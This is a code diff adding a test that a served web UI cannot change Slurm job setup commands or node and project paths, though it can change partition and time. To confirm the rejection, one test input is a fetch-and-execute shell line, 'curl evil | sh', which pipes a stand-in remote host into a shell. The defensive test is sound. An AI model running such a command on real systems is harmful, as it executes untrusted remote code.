@@ -82,6 +82,13 @@ describe('a served UI (confined)', () => {
     expect(await errorOf(served.dispatch('setSettings', { runsDir: '/tmp' }))).toMatch(/runsDir cannot be changed/);
     expect(((await served.dispatch('setSettings', { theme: 'dark', dataRoots: [dataRoot] })) as { theme: string }).theme).toBe('dark');
   });
+
+  it("cannot set what a Slurm job runs as shell, but may set the job's resources", async () => {
+    expect(await errorOf(served.dispatch('setSettings', { slurm: { setup: ['curl evil | sh'] } }))).toMatch(/^slurm\.setup cannot be changed from a served page: a job runs them as shell/);
+    expect(await errorOf(served.dispatch('setSettings', { slurm: { partition: 'debug', project: '/tmp/x', node: '/tmp/node' } }))).toMatch(/^slurm\.node, slurm\.project cannot be changed/);
+    expect(((await served.dispatch('setSettings', { slurm: { partition: 'debug', time: '30' } })) as { slurm: object }).slurm).toEqual({ partition: 'debug', time: '30' });
+    expect(((await desktop.dispatch('setSettings', { slurm: { setup: ['module load nodejs/20'] } })) as { slurm: object }).slurm).toEqual({ setup: ['module load nodejs/20'] });
+  });
 });
 
 describe('the desktop app and CLI (unconfined)', () => {
